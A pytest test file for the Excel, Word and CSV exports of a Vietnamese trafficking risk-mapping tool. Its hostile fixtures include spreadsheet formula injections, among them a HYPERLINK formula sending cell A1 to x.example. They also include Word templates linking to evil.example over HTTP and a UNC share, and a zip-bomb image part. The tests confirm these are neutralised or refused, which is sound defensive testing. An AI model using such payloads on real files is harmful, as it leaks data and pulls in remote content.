"""The Excel and Word exports, read back with openpyxl and python-docx as an office would."""

import io
import unicodedata
import zipfile
from dataclasses import replace

import docx
import numpy as np
import openpyxl
import pandas as pd
import pytest
from docx.shared import Pt
from hypothesis import given, settings
from hypothesis import strategies as st

from api.render import run_info, run_plan_layers, write_run_export
from geo.errors import InputFileError
from geo.workspace import Raster, Workspace
from maps.escaping import FORMULA_STARTS
from maps.export import ExportRequest, write_export
from maps.office import office_text
from maps.templates.make_template import (
    CELL_STYLE,
    NOTE_STYLE,
    TABLE_STYLE,
    TEMPLATE,
    template_bytes,
)
from maps.xlsx import _fill
from risk.compare import comparison_label
from risk.pipeline import score_workspace, scored_communes
from risk.plans.outreach import outreach_plan
from risk.plans.patrol import patrol_plan
from risk.plans.segments import segments_plan
from risk.privacy import Suppression
from risk.profiles import load_profile
from risk.results import CHANGE_COLUMNS
from risk.store import load_run, save_plan
from tests.factories import METRIC, make_communes, make_layers, make_population

COUNTS = [3, 0, 7, 1, 12, 4, 0, 5, 2, 9, 0, 6]
HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"bấm")', "+1+2", "@SUM(A1)", "-2+3"]


@pytest.fixture(scope="module")
def planned(tmp_path_factory):
    """A scored workspace (patrol profile) with a patrol, an outreach and a segments plan."""
    layers = make_layers(make_communes())
    values, transform = make_population(layers["communes"])
    ws = Workspace(tmp_path_factory.mktemp("office") / "ws")
    ws.write_layers(
        layers, rasters={"population": Raster(values, transform, METRIC)}, source="test fixture"
    )
    score_workspace(ws, load_profile("patrol"))
    save_plan(ws, patrol_plan(ws, "patrol", k=2, radius_km=6))
    save_plan(ws, outreach_plan(ws, "patrol", budget=100))
    save_plan(ws, segments_plan(ws, "patrol"))
    return ws


@pytest.fixture(scope="module")
def run(planned):
    return load_run(planned, "patrol")


@pytest.fixture(scope="module")
def scored(planned, run):
    return scored_communes(planned, run).assign(repatriations_total=COUNTS)


def export(planned, run, scored, tmp_path, fmt, *, layers=None, lang="vi", **kw):
    info = run_info(run, load_profile("patrol"), lang=lang)
    layers = run_plan_layers(planned, run) if layers is None else layers
    request = ExportRequest(fmt, lang=lang, **kw)
    return write_export(tmp_path / f"out.{fmt}", scored, layers, request=request, info=info)


def csv_of(planned, run, scored, tmp_path, **kw) -> pd.DataFrame:
    path = export(planned, run, scored, tmp_path, "csv", **kw)
    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)


def sheet_rows(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


# --- Excel --------------------------------------------------------------------------------------


def test_xlsx_ranking_sheet_has_vietnamese_headers_frozen_filtered_and_formatted(
    planned, run, scored, tmp_path
):
    book = openpyxl.load_workbook(export(planned, run, scored, tmp_path, "xlsx"))
    sheet = book.worksheets[0]
    assert sheet.title == "Xếp hạng xã"
    headers = [c.value for c in sheet[1]]
    assert headers[:3] == ["Hạng", "Mã xã", "Xã"]
    assert {"Điểm (0-100)", "Mức nguy cơ", "Khoảng hạng (p05-p95)", "Yếu tố chính"} <= set(headers)
    assert sheet.freeze_panes == "A2"
    (table,) = sheet.tables.values()
    assert table.ref == f"A1:{sheet.cell(1, len(headers)).column_letter}{len(scored) + 1}"
    assert [c.name for c in table.tableColumns] == headers  # filters on every column
    first = {h: sheet.cell(2, j) for j, h in enumerate(headers, start=1)}
    assert first["Hạng"].value == 1 and first["Điểm (0-100)"].number_format == "0.0"
    assert first["Điểm (0-100)"].value == pytest.approx(scored["score"].iloc[0])
    assert first["Xác suất trong top k"].number_format == "0%"
    assert 0 <= first["Xác suất trong top k"].value <= 1
    assert sheet.column_dimensions[first["Yếu tố chính"].column_letter].width > 20


def test_xlsx_counts_follow_the_rule_exactly_as_the_csv(planned, run, scored, tmp_path):
    for rule in (Suppression(), Suppression("round"), None):
        csv = csv_of(planned, run, scored, tmp_path, suppression=rule)
        path = export(planned, run, scored, tmp_path, "xlsx", suppression=rule)
        sheet = openpyxl.load_workbook(path).worksheets[0]
        rows = sheet_rows(sheet)
        column = "Số người trở về (bị trục xuất, nạn nhân)"
        shown = [str(r[column]) for r in rows]
        assert shown == [
            str(int(float(v))) if v[:1].isdigit() else v for v in csv["repatriations_total"]
        ]
        assert [r["Mã xã"] for r in rows] == csv["commune_code"].tolist()
        cells = next(c for c in sheet.iter_cols(min_row=1) if c[0].value == column)[1:]
        if rule is not None and rule.mode == "threshold":
            assert "<5" in shown and all(c.data_type == "s" for c in cells if c.value == "<5")
            assert "1" not in shown and "3" not in shown
        if rule is None:
            assert shown.count("<5") == 0 and "3" in shown


def test_xlsx_never_holds_a_formula_even_for_hostile_names(planned, run, scored, tmp_path):
    hostile = scored.assign(commune_name=HOSTILE * 3)
    path = export(planned, run, hostile, tmp_path, "xlsx")
    book = openpyxl.load_workbook(path)
    assert all(c.data_type != "f" for s in book.worksheets for row in s.iter_rows() for c in row)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    names = [r["Xã"] for r in sheet_rows(book.worksheets[0])]
    assert names[0] == HOSTILE[0] and set(names) == set(HOSTILE)  # no literal apostrophe
    column = [row[2] for row in book.worksheets[0].iter_rows(min_row=2)]  # "Xã"
    assert {c.value for c in column} == set(HOSTILE)
    assert all(c.data_type == "s" and c.quotePrefix for c in column)  # Excel: text as typed
    csv = csv_of(planned, run, hostile, tmp_path)
    assert csv["commune_name"].tolist()[0] == "'" + HOSTILE[0]  # the CSV keeps its neutraliser


def test_xlsx_keeps_vietnamese_nfc_and_survives_control_characters(planned, run, scored, tmp_path):
    name = unicodedata.normalize("NFC", "Xã Nậm Pồ Thượng")
    odd = scored.assign(commune_name=[name, "Bản\x01Chắn", *scored["commune_name"][2:]])
    book = openpyxl.load_workbook(export(planned, run, odd, tmp_path, "xlsx"))
    names = [r["Xã"] for r in sheet_rows(book.worksheets[0])]
    assert names[0] == name and unicodedata.is_normalized("NFC", names[0])
    assert names[1] == "Bản\ufffdChắn"  # a character Excel cannot hold, marked, not dropped


def test_xlsx_has_a_sheet_per_plan_and_provenance(planned, run, scored, tmp_path):
    book = openpyxl.load_workbook(export(planned, run, scored, tmp_path, "xlsx"))
    assert book.sheetnames[0] == "Xếp hạng xã" and book.sheetnames[-1] == "Nguồn gốc"
    assert {"Điểm tuần tra", "Xã tuyên truyền", "Đoạn biên giới"} <= set(book.sheetnames)
    bases = sheet_rows(book["Điểm tuần tra"])
    assert len(bases) == 2 and {"Tên", "Bán kính (km)", "Vĩ độ", "Kinh độ"} <= set(bases[0])
    assert book["Điểm tuần tra"].freeze_panes == "A2" and book["Điểm tuần tra"].tables
    ranking = sheet_rows(book.worksheets[0])
    assert sum(r["Trong vùng tuần tra"] == "Có" for r in ranking) >= 1
    about = {r["Mục"]: r["Giá trị"] for r in sheet_rows(book["Nguồn gốc"])}
    assert about["Mã lần tính"] == run.record.run_id
    assert about["Mã trọng số"] == run.record.weights_hash
    assert about["Phiên bản lớp: communes"] == run.record.layer_versions["communes"]
    assert about["Phiên bản mã"] == run.record.code_version
    assert about["Trọng số: Gần biên giới"] == pytest.approx(run.record.weights["border_proximity"])
    assert "<5" in about["Quy tắc số nhỏ"]
    without = openpyxl.load_workbook(export(planned, run, scored, tmp_path, "xlsx", layers={}))
    assert without.sheetnames == ["Xếp hạng xã", "Nguồn gốc"]


def test_xlsx_in_english_with_top_rows_and_change_columns(planned, run, scored, tmp_path):
    changed = with_changes(scored)
    path = export(planned, run, changed, tmp_path, "xlsx", lang="en", top=5)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[0] == "Commune ranking" and "Provenance" in book.sheetnames
    rows = sheet_rows(book.worksheets[0])
    assert len(rows) == 5 and {"Rank", "Commune", "Score (0-100)", "Risk class"} <= set(rows[0])
    assert [r["Rank change (+: up)"] for r in rows] == changed["rank_change"].head(5).tolist()
    assert rows[0]["Previous class"] in {"Very high", "High", "Medium", "Low", "Very low"}
    cell = next(
        c
        for c in book.worksheets[0][2]
        if book.worksheets[0].cell(1, c.column).value == "Score change"
    )
    assert cell.number_format == "+0.0;-0.0;0.0"


# --- Word ---------------------------------------------------------------------------------------


def with_changes(scored: pd.DataFrame) -> pd.DataFrame:
    """``scored`` compared with a made-up previous run (ranks shuffled with a seed)."""
    previous = np.random.default_rng(1).permutation(len(scored)) + 1
    out = scored.assign(previous_rank=previous)
    out["rank_change"] = out["previous_rank"] - out["rank"]
    out["previous_score"] = out["score"] - out["rank_change"]
    out["score_change"] = out["score"] - out["previous_score"]
    out["previous_class"] = out["class"]
    out["class_change"] = 0
    assert set(CHANGE_COLUMNS) <= set(out.columns)
    return out


def paragraphs(doc, style: str) -> list[str]:
    return [p.text for p in doc.paragraphs if p.style.name == style]


def table_after(doc, heading: str):
    """The first table after the paragraph ``heading`` in the body."""
    body = list(doc.element.body.iterchildren())
    start = next(
        i
        for i, el in enumerate(body)
        if el.tag.endswith("}p")
        and heading in "".join(t.text or "" for t in el.iter() if t.tag.endswith("}t"))
    )
    element = next(el for el in body[start:] if el.tag.endswith("}tbl"))
    return next(t for t in doc.tables if t._tbl is element)


def test_docx_has_title_map_headings_and_the_csv_top_rows(planned, run, scored, tmp_path):
    path = export(planned, run, scored, tmp_path, "docx", top=5)
    doc = docx.Document(path)
    assert paragraphs(doc, "Title") == ["Bản đồ nguy cơ mua bán người"]
    assert paragraphs(doc, "Heading 1")[:2] == [
        "Bản đồ nguy cơ theo xã",
        "Các xã có nguy cơ cao nhất",
    ]
    assert {"Kế hoạch", "Phương pháp", "Nguồn gốc số liệu"} <= set(paragraphs(doc, "Heading 1"))
    assert "So với kỳ trước" not in paragraphs(doc, "Heading 1")
    (shape,) = doc.inline_shapes
    image = doc.part.related_parts[shape._inline.graphic.graphicData.pic.blipFill.blip.embed]
    assert image.content_type == "image/png" and image.blob.startswith(b"\x89PNG")
    table = table_after(doc, "Các xã có nguy cơ cao nhất")
    cells = [[c.text for c in row.cells] for row in table.rows]
    assert cells[0][:3] == ["Hạng", "Xã", "Huyện"]
    csv = csv_of(planned, run, scored, tmp_path, top=5)
    assert [r[0] for r in cells[1:]] == csv["rank"].tolist()
    assert [r[1] for r in cells[1:]] == csv["commune_name"].tolist()
    scores = [f"{float(s):.1f}" for s in csv["score"]]
    assert [r[cells[0].index("Điểm (0-100)")] for r in cells[1:]] == scores


def test_docx_plans_method_and_provenance(planned, run, scored, tmp_path):
    doc = docx.Document(export(planned, run, scored, tmp_path, "docx"))
    assert {"Điểm tuần tra", "Xã tuyên truyền", "Đoạn biên giới"} <= set(
        paragraphs(doc, "Heading 2")
    )
    bases = table_after(doc, "Điểm tuần tra")
    assert len(bases.rows) == 3 and bases.rows[0].cells[0].text == "Tên"
    about = {r.cells[0].text: r.cells[1].text for r in table_after(doc, "Nguồn gốc số liệu").rows}
    assert about["Mã lần tính"] == run.record.run_id and "<5" in about["Quy tắc số nhỏ"]
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Điểm 0-100 của mỗi xã" in text and "Trọng số của hồ sơ" in text
    assert table_after(doc, "Các xã có nguy cơ cao nhất").rows[0]._tr.trPr is not None


def test_docx_compares_with_the_previous_period_only_when_changes_are_present(
    planned, run, scored, tmp_path
):
    changed = with_changes(scored)
    doc = docx.Document(export(planned, run, changed, tmp_path, "docx", lang="vi"))
    assert "So với kỳ trước" in paragraphs(doc, "Heading 1")
    risers = table_after(doc, "Các xã tăng hạng nhiều nhất")
    header = [c.text for c in risers.rows[0].cells]
    moves = [int(r.cells[header.index("Thay đổi hạng (+: tăng)")].text) for r in risers.rows[1:]]
    top = changed.sort_values(["rank_change", "rank"], ascending=[False, True])
    assert moves == [m for m in top["rank_change"] if m > 0][:10]
    assert moves == sorted(moves, reverse=True) and moves[0] > 0
    ranked = table_after(doc, "Các xã có nguy cơ cao nhất")
    assert ranked.rows[0].cells[1].text == "Thay đổi hạng (+: tăng)"
    assert ranked.rows[1].cells[1].text == f"{changed['rank_change'].iloc[0]:+d}"
    english = docx.Document(export(planned, run, changed, tmp_path, "docx", lang="en"))
    assert "Compared with the previous period" in paragraphs(english, "Heading 1")


def test_docx_says_what_it_compares_with_once_and_names_no_cli_flag(planned, run, scored, tmp_path):
    info = replace(
        run_info(run, load_profile("patrol"), lang="vi"),
        comparison=comparison_label("d1854b4c", "2023-12", "vi"),
    )
    request = ExportRequest("docx", lang="vi", top=3)
    path = write_export(tmp_path / "r.docx", with_changes(scored), {}, request=request, info=info)
    doc = docx.Document(path)
    text = "\n".join(p.text for p in doc.paragraphs)
    cells = "\n".join(c.text for t in doc.tables for r in t.rows for c in r.cells)
    assert "So với lần tính d1854b4c" in text
    assert text.lower().count("so với lần tính") == 1 and "so với: so với" not in cells.lower()
    assert "--format" not in text + cells and "tệp Excel (xlsx)" in text


def test_docx_uses_a_province_template_even_a_dotx(planned, run, scored, tmp_path):
    """A .dotx saved by a Vietnamese Word: "Heading 1" keeps its name, its style id is local."""
    own = docx.Document()
    own.styles["Heading 1"].font.name = "Arial"
    own.styles["Heading 1"].font.size = Pt(20)
    own.add_paragraph("UBND TỈNH BIÊN HẢI")
    buffer = io.BytesIO()
    own.save(buffer)
    template = tmp_path / "tinh.dotx"
    with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(template, "w") as dst:
        for item in src.infolist():
            body = src.read(item)
            if item.filename == "[Content_Types].xml":
                body = body.replace(b"document.main+xml", b"template.main+xml")
            if item.filename == "word/styles.xml":
                body = body.replace(b'"Heading1"', b'"DeMuc1"')
            dst.writestr(item, body)
    path = export(planned, run, scored, tmp_path, "docx", template=template)
    doc = docx.Document(path)
    assert doc.paragraphs[0].text == "UBND TỈNH BIÊN HẢI"  # the letterhead stays first
    assert doc.styles["Heading 1"].font.name == "Arial"
    assert doc.styles["Heading 1"].font.size == Pt(20)
    assert "Bản đồ nguy cơ theo xã" in paragraphs(doc, "Heading 1")
    assert b'<w:pStyle w:val="DeMuc1"/>' in zipfile.ZipFile(path).read("word/document.xml")
    assert doc.tables[0].style.name == "Table Grid"  # the template has no riskmap table style


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (None, "cannot read the Word template"),
        (b"not a zip at all", "is not a Word document riskmap can use as a template"),
        ("docm", "is not a Word document riskmap can use as a template"),
    ],
    ids=["missing", "garbage", "macros"],
)
def test_a_bad_template_is_a_clear_error_naming_the_file(
    planned, run, scored, tmp_path, content, reason
):
    template = tmp_path / "mau-bao-cao.docx"
    if content == "docm":
        buffer = io.BytesIO()
        docx.Document().save(buffer)
        with zipfile.ZipFile(buffer) as src, zipfile.ZipFile(template, "w") as dst:
            for item in src.infolist():
                body = src.read(item).replace(
                    b"wordprocessingml.document.main+xml",
                    b"ms-word.document.macroEnabled.main+xml",
                )
                dst.writestr(item, body)
    elif content is not None:
        template.write_bytes(content)
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(InputFileError, match=rf"^mau-bao-cao\.docx: {reason}"):
        info = run_info(run, load_profile("patrol"), lang="vi")
        write_export(
            out / "r.docx", scored, {}, request=ExportRequest("docx", template=template), info=info
        )
    assert not list(out.iterdir())  # nothing half-written


def test_the_shipped_template_is_the_one_our_code_makes():
    assert TEMPLATE.read_bytes() == template_bytes()  # run make_template after changing it
    shipped = docx.Document(TEMPLATE)
    assert {TABLE_STYLE, NOTE_STYLE, CELL_STYLE} <= {s.name for s in shipped.styles}
    assert shipped.styles["Normal"].font.name == "Times New Roman"
    assert round(shipped.sections[0].page_height.cm, 1) == 29.7  # A4
    assert not shipped.paragraphs  # styles and page setup only: the report fills the body


def test_a_suppressed_export_through_the_workspace_reads_back(planned, tmp_path):
    path = write_run_export(
        planned, load_profile("patrol"), tmp_path / "r.xlsx", ExportRequest("xlsx", top=3)
    )
    assert len(sheet_rows(openpyxl.load_workbook(path).worksheets[0])) == 3


# --- any text a user may have typed -------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=4))
def test_any_text_reads_back_as_text_never_a_formula(names):
    frame = pd.DataFrame({"commune_name": names})
    book = openpyxl.Workbook()
    _fill(book.active, frame, "vi")
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = openpyxl.load_workbook(buffer).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for c in cells)
    for cell, name in zip(cells, names, strict=True):
        shown = office_text(name)
        assert (cell.value or "") == shown  # an empty name is an empty cell
        assert unicodedata.is_normalized("NFC", shown)
        assert bool(cell.quotePrefix) == shown.startswith(FORMULA_STARTS)
        if name and unicodedata.is_normalized("NFC", name) and name == office_text(name):
            assert shown == name  # typed text stays as typed, no apostrophe added


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
    '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
    f'Type="{REL}/attachedTemplate" Target="\\\\evil.example\\share\\t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def _hostile_template(path, *, edit=None, extra=()):
    """Riskmap's own template with parts edited (``edit(name, bytes)``) or added."""
    with zipfile.ZipFile(TEMPLATE) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item)
            dst.writestr(item.filename, edit(item.filename, body) if edit else body)
        for name, body in extra:
            dst.writestr(name, body)
    return path


def _bomb_rels(name, body):
    if name == "word/_rels/document.xml.rels":
        link = f'<Relationship Id="rIdBomb" Type="{REL}/image" Target="media/bomb.png"/>'
        body = body.replace(b"</Relationships>", link.encode() + b"</Relationships>")
    return body


def _remote_document_rels(name, body):
    if name == "word/_rels/document.xml.rels":
        link = (
            f'<Relationship Id="rIdX" Type="{REL}/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
        )
        body = body.replace(b"</Relationships>", link.encode() + b"</Relationships>")
    return body


def _remote_settings(name, body):
    if name == "word/settings.xml":
        body = body.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
    return body


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        (
            lambda p: _hostile_template(
                p, edit=_bomb_rels, extra=[("word/media/bomb.png", b"\0" * 30_000_000)]
            ),
            "zip member .*bomb.png.* unpacks",
        ),
        (
            lambda p: _hostile_template(p, edit=_remote_document_rels),
            "links to something outside itself .*document.xml.rels",
        ),
        (
            lambda p: _hostile_template(
                p, edit=_remote_settings, extra=[("word/_rels/settings.xml.rels", SETTINGS_RELS)]
            ),
            "links to something outside itself .*settings.xml.rels",
        ),
    ],
    ids=["zip-bomb-part", "remote-attached-template", "unc-attached-template-in-settings"],
)
def test_a_hostile_template_is_refused_naming_the_file(
    planned, run, scored, tmp_path, build, reason
):
    template = build(tmp_path / "mau-bao-cao.docx")
    out = tmp_path / "out"
    out.mkdir()
    info = run_info(run, load_profile("patrol"), lang="vi")
    with pytest.raises(InputFileError, match=rf"^.*mau-bao-cao\.docx: .*{reason}"):
        write_export(
            out / "r.docx", scored, {}, request=ExportRequest("docx", template=template), info=info
        )
    assert not list(out.iterdir())  # nothing half-written
